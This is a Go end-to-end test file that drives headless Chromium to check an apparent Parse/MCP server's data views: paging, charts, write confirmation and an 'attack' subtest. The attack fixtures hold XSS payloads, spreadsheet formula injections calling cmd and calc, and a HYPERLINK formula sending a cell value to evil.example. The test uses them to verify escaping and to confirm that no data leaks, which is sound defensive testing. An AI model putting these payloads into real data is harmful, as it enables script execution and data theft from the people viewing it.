package e2e

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"go.mongodb.org/mongo-driver/v2/bson"
)

// The views in a real browser (docs/views.md): headless Chromium runs a host
// page built on the extension's AppBridge (views/test/host.js), connected
// over HTTP to the real binary; views/test/browser.mjs drives it and reports
// what each view's DOM shows, checked here against the server's own answers
// and the database.

// browserTools finds Chromium, node and the views' packages, or skips
// (fails with PARSE_MCP_TEST_REQUIRE_BROWSER=1, as in CI).
func browserTools(t *testing.T) (chromium, node string) {
	t.Helper()
	missing := func(what string) {
		msg := "the views' browser test needs " + what + " (apt-get install chromium nodejs npm; cd views && npm ci)"
		if os.Getenv("PARSE_MCP_TEST_REQUIRE_BROWSER") == "1" {
			t.Fatal(msg)
		}
		t.Skip(msg)
	}
	for _, name := range []string{"chromium", "chromium-browser"} {
		if p, err := exec.LookPath(name); err == nil {
			chromium = p
			break
		}
	}
	if chromium == "" {
		missing("Chromium")
	}
	node, err := exec.LookPath("node")
	if err != nil {
		missing("node")
	}
	if _, err := os.Stat("../views/node_modules/puppeteer-core"); err != nil {
		missing("views/node_modules")
	}
	return chromium, node
}

type viewsReport struct {
	Steps struct {
		Rows struct {
			Columns               []string
			FirstPage, SecondPage int
			Asc, Desc             []string
			DateCell              struct{ Shown, Iso string }
			Copied                struct {
				Text  string
				Bytes int
			}
			Link       struct{ Cls, ID, Href string }
			Detail     string
			Calls      []map[string]any
			ResultRows int
			HTML       string
		}
		Export struct {
			Columns, Headers []string
			Rows, RowCount   int
		}
		Chart struct {
			Bars      [][3]any
			TableRows int
			Groups    []struct {
				Key   any
				Value float64
			}
		}
		ChartDate struct {
			Points [][2]any
			Groups []struct {
				Key   any
				Value float64
			}
		}
		ChartAggregate struct {
			Bars [][2]any
			Rows [][2]any
		}
		Confirm struct {
			DiffDecline   [][]string
			DeclineStatus string
			DeclineCalls  []map[string]any
			Diff          [][]string
			ConfirmStatus string
			Calls         []map[string]any
			Replay        map[string]any
			TokenPrefix   string
		}
		ConfirmACL struct{ Text string }
		Attack     struct {
			Dom struct {
				Text, HTML string
				Scripts    int
				Links      []string
				Handlers   []string
				Images     int
			}
			Hidden, Missing map[string]any
			Global          string
			HTML            string
			CSV             string
		}
	}
}

func TestViewsInBrowser(t *testing.T) {
	chromium, node := browserTools(t)

	// The demo app, read only: rows, chart, a pointer.
	demo := startHTTP(t)

	// A writable class under confirm_writes: always, its ACL writable.
	wdb, wuri := writeDB(t, bson.D{{Key: "_id", Value: "Memo"}, {Key: "objectId", Value: "string"}, {Key: "title", Value: "string"}, {Key: "n", Value: "number"}})
	ctx := context.Background()
	if _, err := wdb.Collection("Memo").InsertMany(ctx, []any{
		bson.D{{Key: "_id", Value: "memoDecl01"}, {Key: "title", Value: "declined"}, {Key: "n", Value: 0}},
		bson.D{{Key: "_id", Value: "memoConf01"}, {Key: "title", Value: "confirmed"}, {Key: "n", Value: 0}},
		bson.D{{Key: "_id", Value: "memoAcl001"}, {Key: "title", Value: "private"}, {Key: "n", Value: 0}},
	}); err != nil {
		t.Fatal(err)
	}
	write := startHTTP(t, append(append([]string{}, writeEnv...), wuri, policyEnv(t, "classes:\n  Memo: {writable_fields: [title, n, ACL]}\nsettings: {confirm_writes: always}\n"))...)

	// Stored payloads, a hidden reference and a protected field, read by a
	// scoped identity (protectedFields apply to it).
	adb, auri := writeDB(t,
		bson.D{{Key: "_id", Value: "Ticket"}, {Key: "objectId", Value: "string"}, {Key: "title", Value: "string"}, {Key: "note", Value: "string"},
			{Key: "code", Value: "string"}, {Key: "secretRef", Value: "*Vault"}},
		bson.D{{Key: "_id", Value: "Vault"}, {Key: "objectId", Value: "string"}, {Key: "key", Value: "string"}},
		bson.D{{Key: "_id", Value: "_User"}, {Key: "objectId", Value: "string"}, {Key: "username", Value: "string"}})
	for coll, docs := range map[string][]any{
		"Ticket": {
			bson.D{{Key: "_id", Value: "ticket0001"}, {Key: "title", Value: `<script>document.title='pwned'</script>`}, {Key: "note", Value: `javascript:document.title='pwned'`},
				{Key: "code", Value: "PROTECTED-CODE-1"}, {Key: "_p_secretRef", Value: "Vault$vAuLtId001"}},
			bson.D{{Key: "_id", Value: "ticket0002"}, {Key: "title", Value: `<img src=x onerror="document.title='pwned'">`}, {Key: "note", Value: `<a href="javascript:document.title='pwned'">x</a>`},
				{Key: "code", Value: "PROTECTED-CODE-2"}, {Key: "_p_secretRef", Value: "Vault$vAuLtId001"}},
			// Spreadsheet formulas, in values and in a field's name, for
			// Copy CSV; a negative number stays a number.
			bson.D{{Key: "_id", Value: "ticket0003"}, {Key: "title", Value: `=HYPERLINK("http://evil.example/?"&B2,"open")`}, {Key: "note", Value: "+1+cmd|' /C calc'!A0"},
				{Key: "code", Value: "PROTECTED-CODE-3"}, {Key: `=cmd|' /C calc'!A0`, Value: "@SUM(1+1)"}, {Key: `<img src=x onerror=alert(1)>`, Value: "x"}},
			bson.D{{Key: "_id", Value: "ticket0004"}, {Key: "title", Value: "negative"}, {Key: "note", Value: "-5"}},
		},
		"Vault": {bson.D{{Key: "_id", Value: "vAuLtId001"}, {Key: "key", Value: "VAULT-KEY-SECRET"}}},
		"_User": {bson.D{{Key: "_id", Value: "viewUser01"}, {Key: "username", Value: "viewer"}}},
	} {
		if _, err := adb.Collection(coll).InsertMany(ctx, docs); err != nil {
			t.Fatal(err)
		}
	}
	attack := startHTTP(t, auri, "PARSE_MCP_ACL_USER=viewUser01",
		policyEnv(t, "classes:\n  Vault: {hidden: true}\nsettings: {protected_fields: {Ticket: {\"*\": [code]}}}\n"))

	shots := os.Getenv("PARSE_MCP_TEST_ARTIFACTS")
	if shots == "" {
		shots = t.TempDir()
	} else {
		shots = filepath.Join(shots, "views")
	}
	if err := os.MkdirAll(shots, 0o755); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	cfg := map[string]any{
		"chromium": chromium, "screenshots": shots, "report": filepath.Join(dir, "report.json"),
		"servers": map[string]string{"demo": demo.base, "write": write.base, "attack": attack.base},
		"rows": map[string]any{"args": map[string]any{"class_name": "Song", "limit": 30},
			"exportArgs": map[string]any{"class_name": "Song", "limit": 7}},
		"chart": map[string]any{
			"groupBy":     map[string]any{"class_name": "Song", "field": "genre"},
			"groupByDate": map[string]any{"class_name": "Song", "field": "createdAt", "interval": "month"},
			"aggregate":   map[string]any{"class_name": "Song", "pipeline": []any{map[string]any{"$group": map[string]any{"_id": "$genre", "n": map[string]any{"$sum": 1}}}, map[string]any{"$sort": map[string]any{"n": -1}}}},
		},
		"confirm": map[string]any{
			"tool":        "update_object",
			"declineArgs": map[string]any{"class_name": "Memo", "object_id": "memoDecl01", "fields": map[string]any{"n": 5}, "dry_run": true},
			"confirmArgs": map[string]any{"class_name": "Memo", "object_id": "memoConf01", "fields": map[string]any{"n": 7}, "dry_run": true},
			"aclArgs":     map[string]any{"class_name": "Memo", "object_id": "memoAcl001", "fields": map[string]any{"ACL": map[string]any{"*": map[string]any{"read": true, "write": true}}}, "dry_run": true},
		},
		"attack": map[string]any{"args": map[string]any{"class_name": "Ticket"}, "hiddenClass": "Vault", "missingClass": "Nothing", "hiddenId": "vAuLtId001"},
	}
	b, _ := json.Marshal(cfg)
	cfgPath := filepath.Join(dir, "config.json")
	if err := os.WriteFile(cfgPath, b, 0o600); err != nil {
		t.Fatal(err)
	}
	runCtx, cancel := context.WithTimeout(ctx, 4*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(runCtx, node, "test/browser.mjs", cfgPath)
	cmd.Dir = "../views"
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("browser.mjs: %v\n%s", err, out)
	}
	raw, err := os.ReadFile(filepath.Join(dir, "report.json"))
	if err != nil {
		t.Fatal(err)
	}
	var rep viewsReport
	if err := json.Unmarshal(raw, &rep); err != nil {
		t.Fatal(err)
	}
	s := rep.Steps
	t.Logf("screenshots in %s", shots)
	if os.Getenv("UPDATE_VIEW_SCREENSHOTS") == "1" {
		copyScreenshots(t, shots, "../docs/images")
	}

	t.Run("rows", func(t *testing.T) {
		r := s.Rows
		if r.ResultRows != 30 || r.FirstPage != 25 || r.SecondPage != 5 {
			t.Errorf("rows %d, pages %d + %d, want 30 = 25 + 5", r.ResultRows, r.FirstPage, r.SecondPage)
		}
		if !sorted(t, r.Asc, 1) || !sorted(t, r.Desc, -1) || len(r.Asc) != 25 || r.Asc[0] == r.Desc[0] {
			t.Errorf("sorting by plays: asc %v desc %v", r.Asc, r.Desc)
		}
		if r.DateCell.Iso == "" || r.DateCell.Shown == r.DateCell.Iso {
			t.Errorf("a date is not shown in the viewer's locale: %+v", r.DateCell)
		}
		if r.Copied.Text != "Copied" || r.Copied.Bytes < 100 {
			t.Errorf("CSV copy: %+v", r.Copied)
		}
		if r.Link.Href != "#" || r.Link.ID == "" {
			t.Errorf("pointer link %+v", r.Link)
		}
		if len(r.Calls) != 1 || r.Calls[0]["name"] != "get_object" || fmt.Sprint(r.Calls[0]["arguments"]) != fmt.Sprint(map[string]any{"class_name": r.Link.Cls, "object_id": r.Link.ID}) {
			t.Errorf("the pointer click's calls: %v", r.Calls)
		}
		if !strings.Contains(r.Detail, r.Link.ID) {
			t.Errorf("the pointer's object is not shown: %q", r.Detail)
		}
		// The call went through the policy: its audit event.
		if !strings.Contains(demo.stderr.String(), `"tool":"get_object"`) {
			t.Errorf("no tool_call audit event for the view's get_object")
		}
	})

	t.Run("export", func(t *testing.T) {
		e := s.Export
		if e.RowCount != 7 || e.Rows != 7 || fmt.Sprint(e.Columns) != fmt.Sprint(e.Headers) {
			t.Errorf("export_data as rows: %d rows of %d, columns %v, headers %v", e.Rows, e.RowCount, e.Columns, e.Headers)
		}
	})

	t.Run("chart", func(t *testing.T) {
		c := s.Chart
		if len(c.Bars) != len(c.Groups) || len(c.Bars) == 0 || c.TableRows != len(c.Groups) {
			t.Fatalf("%d bars, %d table rows for %d groups", len(c.Bars), c.TableRows, len(c.Groups))
		}
		for i, g := range c.Groups {
			if fmt.Sprint(c.Bars[i][0]) != fmt.Sprint(g.Key) || c.Bars[i][1] != g.Value {
				t.Errorf("bar %d is %v, group %v=%v", i, c.Bars[i], g.Key, g.Value)
			}
			if i > 0 && (c.Bars[i][2].(float64) > c.Bars[i-1][2].(float64)) != (g.Value > c.Groups[i-1].Value) {
				t.Errorf("bar %d's height does not follow its value", i)
			}
		}
		d := s.ChartDate
		if len(d.Points) != len(d.Groups) || len(d.Points) < 2 {
			t.Fatalf("%d points for %d date groups", len(d.Points), len(d.Groups))
		}
		for i, g := range d.Groups {
			if fmt.Sprint(d.Points[i][0]) != fmt.Sprint(g.Key) || d.Points[i][1] != g.Value {
				t.Errorf("point %d is %v, group %v=%v", i, d.Points[i], g.Key, g.Value)
			}
		}
		a := s.ChartAggregate
		if len(a.Bars) != len(a.Rows) || len(a.Bars) == 0 {
			t.Fatalf("aggregate: %d bars for %d rows", len(a.Bars), len(a.Rows))
		}
		for i, row := range a.Rows {
			if fmt.Sprint(a.Bars[i]) != fmt.Sprint(row) {
				t.Errorf("aggregate bar %d is %v, row %v", i, a.Bars[i], row)
			}
		}
	})

	t.Run("confirm", func(t *testing.T) {
		c := s.Confirm
		n := func(id string) any {
			var doc bson.M
			if err := wdb.Collection("Memo").FindOne(ctx, bson.D{{Key: "_id", Value: id}}).Decode(&doc); err != nil {
				t.Fatal(err)
			}
			return doc["n"]
		}
		if fmt.Sprint(c.Diff) != "[[n 0 7]]" || fmt.Sprint(c.DiffDecline) != "[[n 0 5]]" {
			t.Errorf("diffs: %v, %v", c.Diff, c.DiffDecline)
		}
		if len(c.DeclineCalls) != 0 || !strings.Contains(c.DeclineStatus, "nothing was written") || fmt.Sprint(n("memoDecl01")) != "0" {
			t.Errorf("decline: calls %v, status %q, n %v", c.DeclineCalls, c.DeclineStatus, n("memoDecl01"))
		}
		if len(c.Calls) != 1 || c.Calls[0]["name"] != "update_object" || !strings.Contains(c.ConfirmStatus, "written") || fmt.Sprint(n("memoConf01")) != "7" {
			t.Errorf("confirm: calls %v, status %q, n %v", c.Calls, c.ConfirmStatus, n("memoConf01"))
		}
		if args, _ := c.Calls[0]["arguments"].(map[string]any); args["dry_run"] != nil {
			t.Errorf("the confirmed call still asks for a dry run: %v", args)
		}
		// The same call with the same token again is not confirmed.
		if c.Replay["isError"] != true || !strings.Contains(fmt.Sprint(c.Replay), "confirmation_unavailable") {
			t.Errorf("a replayed token: %v", c.Replay)
		}
		if c.TokenPrefix != "parse-mcp.confirm.v2." {
			t.Errorf("token %q", c.TokenPrefix)
		}
		if strings.Count(write.stderr.String(), `"tool":"update_object","args_keys":["class_name","fields","object_id"]`) != 2 {
			t.Errorf("want two audited writes (the confirmed one and the refused replay)")
		}
		// The ACL is not among the object's fields: the view shows the exact
		// change (what an elicitation would ask about), not an empty diff.
		if !strings.Contains(s.ConfirmACL.Text, "_wperm") {
			t.Errorf("the confirm view hides an ACL change:\n%s", s.ConfirmACL.Text)
		}
	})

	t.Run("attack", func(t *testing.T) {
		a := s.Attack
		for _, leak := range []string{"vAuLtId001", "PROTECTED-CODE", "VAULT-KEY", "Vault"} {
			if strings.Contains(a.Dom.HTML, leak) {
				t.Errorf("the view shows %q", leak)
			}
		}
		if !strings.Contains(a.Dom.Text, "<script>document.title='pwned'</script>") || !strings.Contains(a.Dom.Text, `<img src=x onerror=`) {
			t.Errorf("the payloads are not shown as text: %q", a.Dom.Text)
		}
		if a.Dom.Scripts != 1 || a.Dom.Images != 0 || len(a.Dom.Handlers) != 0 || a.Global == "pwned" {
			t.Errorf("a payload ran or became markup: scripts %d images %d handlers %v title %q", a.Dom.Scripts, a.Dom.Images, a.Dom.Handlers, a.Global)
		}
		// Copy CSV is for a spreadsheet: no cell may start a formula.
		cells, err := csv.NewReader(strings.NewReader(a.CSV)).ReadAll()
		if err != nil || len(cells) != 5 {
			t.Fatalf("Copy CSV: %v %q", err, a.CSV)
		}
		for _, row := range cells {
			for _, cell := range row {
				if _, num := strconv.ParseFloat(cell, 64); num != nil && cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("Copy CSV has a formula cell %q", cell)
				}
			}
		}
		if !strings.Contains(a.CSV, `'=HYPERLINK(`) || !strings.Contains(a.CSV, ",-5,") {
			t.Errorf("Copy CSV: %q", a.CSV)
		}
		for _, href := range a.Dom.Links {
			if href != "#" {
				t.Errorf("a link to %q", href)
			}
		}
		// A call from inside the view on the hidden class is answered as
		// one on a class that does not exist.
		hidden := strings.ReplaceAll(fmt.Sprint(a.Hidden["error"], a.Hidden["result"]), "Vault", "Nothing")
		missing := fmt.Sprint(a.Missing["error"], a.Missing["result"])
		if hidden != missing || !strings.Contains(missing, "Nothing") {
			t.Errorf("hidden class from the view:\n%s\nmissing class:\n%s", hidden, missing)
		}
		for _, html := range []string{a.HTML, s.Rows.HTML} {
			if strings.Contains(html, "ticket0001") || strings.Contains(html, "parse-mcp.confirm") {
				t.Errorf("data in the view's HTML")
			}
		}
	})
}

// sorted reports whether numeric cell texts are ordered (dir 1 ascending,
// -1 descending).
func sorted(t *testing.T, cells []string, dir int) bool {
	t.Helper()
	var nums []float64
	for _, c := range cells {
		f, err := strconv.ParseFloat(strings.ReplaceAll(c, ",", ""), 64)
		if err != nil {
			t.Errorf("not a number: %q", c)
			return false
		}
		nums = append(nums, f*float64(dir))
	}
	return sort.Float64sAreSorted(nums)
}

func copyScreenshots(t *testing.T, from, to string) {
	t.Helper()
	if err := os.MkdirAll(to, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"rows", "rows-pointer", "chart-bar", "chart-line", "confirm", "confirm-done"} {
		src, err := os.Open(filepath.Join(from, name+".png"))
		if err != nil {
			t.Fatal(err)
		}
		dst, err := os.Create(filepath.Join(to, "view-"+name+".png"))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.Copy(dst, src); err != nil {
			t.Fatal(err)
		}
		src.Close()
		dst.Close()
	}
}
